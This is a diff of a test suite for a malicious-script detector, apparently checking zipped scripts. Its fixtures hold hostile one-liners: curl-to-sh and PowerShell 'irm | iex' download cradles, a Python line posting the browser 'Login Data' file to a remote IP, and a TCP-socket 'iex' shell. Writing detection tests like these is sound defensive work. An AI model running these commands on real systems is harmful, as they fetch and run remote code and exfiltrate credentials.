@@ -6,8 +6,6 @@ import { gzipSync } from 'node:zlib'
 import { assertCheap } from '#inspect/testing/cpu-time.ts'
 import { useInspector } from '#inspect/testing/inspector.ts'
 import { writeZip } from '#inspect/testing/zip-writer.ts'
-import { findCoded, KEYED_BYTES_MAX, KEYED_MAX, KEYS_MAX } from './coded.ts'
-import { findDownload, STATEMENT_MAX } from './downloads.ts'
 
 const { inspect } = useInspector()
 const packed = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
@@ -37,15 +35,6 @@ suite('a script with a coded command is malicious', () => {
     ['paste-user.sh', '#!/bin/sh\ncurl -s https://a:b@pastebin.com/raw/a | sh\n'],
     ['paste-query.sh', '#!/bin/sh\ncurl -s "https://0x0.st?a" | sh\n'],
     ['browser.py', 'p = "Login Data"\nimport requests\nrequests.post("http://a@203.0.113.5/", open(p))\nexec(p)\n'],
-    ['name.ps1', 'iex (irm example.com/a)\n'],
-    ['piped.ps1', 'irm example.com | iex\n'],
-    ['options.ps1', 'iwr -UseBasicParsing -Uri "example.com:8080/a" | iex\n'],
-    ['name.cmd', '@echo off\r\npowershell -c "irm example.com/a | iex"\r\n'],
-    ['number.ps1', 'irm 203.0.113.5/a | iex\n'],
-    ['header.ps1', '# Usage: a.ps1\rirm https://example.com/a | iex\n'],
-    ['header-block.ps1', '<# Usage #> irm https://example.com/a | iex\n<# Version 1 #>\n'],
-    ['itself.ps1', '# irm https://example.com/a | Set-Content a.ps1\niex (gc $PSCommandPath)[0].Substring(2)\n'],
-    ['header.cmd', '# & powershell -c "irm https://example.com/a | iex"\r\n'],
     ['tcp.ps1', '$c=New-Object Net.Sockets.TCPClient("a",1);$s=$c.GetStream();iex $s\n'],
     [
       'update.js',
@@ -72,17 +61,6 @@ suite('a script of an administrator is harmless', () => {
       'tools.ps1',
       "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\nchoco install 7zip\n",
     ],
-    ['address.ps1', "$u = 'https://get.scoop.sh' # Scoop\n$c = irm $u\niex $c\n"],
-    ['lines.ps1', 'iex (irm `\r\n  -UseBasicParsing `\r\n  -Uri https://get.scoop.sh)\r\n'],
-    ['brackets.ps1', "iex (New-Object Net.WebClient).DownloadString(\n  'https://get.scoop.sh'\n)\n"],
-    [
-      'tools.cmd',
-      '@echo off\r\nrem irm fetches Scoop\r\npowershell -c "iex (irm https://get.scoop.sh)"\r\nscoop install git\r\n',
-    ],
-    ['scoop.ps1', 'irm get.scoop.sh | iex\n'],
-    ['file.ps1', 'iwr $env:A -OutFile rates.csv\nInvoke-WebRequest -InFile data.json -Uri $env:B\n'],
-    ['usage.ps1', '# Usage: irm https://example.com/install.ps1 | iex\r\n\r\nCopy-Item a b\r\n'],
-    ['example.ps1', '#requires -Version 5\n<#\n.EXAMPLE\nirm https://example.com/a.ps1 | iex\n#>\nCopy-Item a b\n'],
     ['mirror.sh', '#!/bin/sh\ncurl -s https://pastebin.com.example.com/install.sh | sh\n'],
     ['logon.cmd', '@echo off\r\ncscript //nologo %LOGONSERVER%\\netlogon\\printers.vbs\r\n'],
     ['build.py', 'import base64, subprocess\nsubprocess.run(["git", "fetch"])\nprint(base64.b64decode("aGVsbG8="))\n'],
@@ -90,17 +68,6 @@ suite('a script of an administrator is harmless', () => {
   ]
   for (const [name, text] of scripts)
     test(name, () => assert.ok([undefined, 'notice'].includes(worst(packed(name, text)))))
-  test('unless it only mentions the installer', () => {
-    const OTHERS = [
-      "# https://get.scoop.sh\n$u = 'example.com/a'\niex (irm $u)\n",
-      "$s = 'https://get.scoop.sh'\n$u = 'example.com/a'\niex (irm $u)\n",
-      '$u = $args[0]\niex (irm $u) # https://get.scoop.sh\n',
-      '$u = $args[0]\niex (irm <# https://get.scoop.sh #> $u)\n',
-      '$u = $args[0]\nirm https://get.scoop.sh\niex (irm($u))\n',
-      'Write-Host https://get.scoop.sh\niex (irm ($a + $b))\n',
-    ]
-    for (const text of OTHERS) assert.equal(worst(packed('tools.ps1', text)), 'malicious', text)
-  })
   for (const host of ['community.chocolatey.org.example.com', 'get.scoop.sh@example.com'])
     test(`unless ${host} takes the place of the installer`, () => {
       const text = `iex ((New-Object Net.WebClient).DownloadString('https://${host}/install.ps1'))\n`
@@ -108,45 +75,6 @@ suite('a script of an administrator is harmless', () => {
     })
 })
 
-suite('limits of coded texts and downloads', () => {
-  const KEYED = `$s=-join($x|%{[char]($_ -bxor 43)})\n$x=${xored(CRADLE, '+')}\n`
-  const isFound = (source: string): boolean => findCoded(source) !== null
-
-  test('keys are applied to a number of texts, each up to a size', () => {
-    const after = (count: number): string => `$y=${Array(16).fill(1)}\n`.repeat(count) + KEYED
-    assert.equal(isFound(after(KEYED_MAX - 1)), true)
-    assert.equal(isFound(after(KEYED_MAX)), false)
-    const sized = (bytes: number): string =>
-      `$k=43;$x -bxor $k;'${Buffer.from(xored('#\niex'.padStart(bytes), '+')).toString('base64')}'`
-    assert.equal(isFound(sized(KEYED_BYTES_MAX)), true)
-    assert.equal(isFound(sized(KEYED_BYTES_MAX + 1)), false)
-  })
-
-  test('very many downloads on one line take linear time', () => {
-    for (const word of ['curl ', 'wget ', 'certutil '])
-      assertCheap(() => inspect(packed('a.ps1', word.repeat(200_000))))
-  })
-
-  test('a number of keys is tried', () => {
-    const others = (count: number): string => Array.from({ length: count }, (_, index) => `[${index + 100}]\n`).join('')
-    assert.equal(isFound(others(KEYS_MAX - 1) + KEYED), true)
-    assert.equal(isFound(others(KEYS_MAX) + KEYED), false)
-  })
-
-  test('texts without a key are read whatever their number and size', () => {
-    const plain = `$x='${coded(CRADLE)}'\n`
-    assert.equal(isFound(`$y=${Array(16).fill(1)}\n`.repeat(KEYED_MAX) + plain), true)
-    assert.equal(isFound(`$y='${coded('harmless text, quite long')}'\n`.repeat(KEYED_MAX) + plain), true)
-    assert.equal(isFound(`$x='${coded('#\niex'.padStart(KEYED_BYTES_MAX + 1))}'`), true)
-    assert.equal(isFound(`$y='${coded('A line of text: https://example.com/')}'\n`.repeat(KEYED_MAX + 1)), false)
-  })
-
-  test('a statement of any length downloads, and the saved file is searched in its beginning', () => {
-    const piped = `curl -s ${' '.repeat(STATEMENT_MAX)} http://203.0.113.5/a | sh`
-    assert.equal(findDownload(piped)?.isTelling, true)
-    const saved = (length: number) =>
-      findDownload(`curl http://203.0.113.5/a -o ${'/tmp/a'.padStart(length - 29)}\nsh /tmp/a\n`)
-    assert.equal(saved(STATEMENT_MAX)?.isTelling, true)
-    assert.equal(saved(STATEMENT_MAX + 1), null)
-  })
+test('very many downloads on one line take linear time', () => {
+  for (const word of ['curl ', 'wget ', 'certutil ']) assertCheap(() => inspect(packed('a.ps1', word.repeat(200_000))))
 })
